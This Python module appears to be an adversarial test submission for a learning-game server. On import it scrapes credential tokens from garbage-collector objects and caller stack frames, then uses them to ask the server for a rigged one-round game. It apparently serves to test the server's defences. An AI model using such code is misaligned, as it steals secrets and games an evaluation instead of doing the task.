"""A submission that steals its own credential from the interpreter's memory (an
argparse namespace, or a local variable of the code importing it) and asks the server
for a game of its choosing (1 round, against the weakest opponent)."""

import argparse
import gc
import sys

import msgpack
from websockets.sync.client import unix_connect

from littlestone.learners.halving import Halving


def _steal_and_ask():
    tokens = [o.token for o in gc.get_objects()
              if isinstance(o, argparse.Namespace) and getattr(o, "token", None)]
    frame = sys._getframe()
    while frame is not None:  # a local variable of the code that imports it (a direct link's)
        tokens += [v for k, v in frame.f_locals.items() if "token" in k and isinstance(v, str)]
        frame = frame.f_back
    socket = next((o.url.removeprefix("unix:") for o in gc.get_objects()
                   if isinstance(o, argparse.Namespace) and getattr(o, "url", None)), None)
    if not tokens or socket is None:
        print("rule-changer: found no credential", file=sys.stderr)
        return
    with unix_connect(socket, "ws://localhost/") as ws:
        ws.send(msgpack.packb({"type": "hello", "version": 1, "role": "learner",
                               "agent": "rule-changer", "token": tokens[0],
                               "capabilities": []}))
        welcome = msgpack.unpackb(ws.recv())
        if welcome.get("type") == "welcome":
            ws.send(msgpack.packb({"type": "challenge", "opponent": "random-target",
                                   "seed": 0, "rules": {"game": "mistake-bound",
                                                        "class": "thresholds:n=1",
                                                        "rounds": 1}}))
            welcome = msgpack.unpackb(ws.recv())
        print(f"rule-changer: the server said {welcome.get('code', welcome['type'])}",
              file=sys.stderr)


_steal_and_ask()


class RuleChanger(Halving):
    """Halving, once its own game was asked for."""
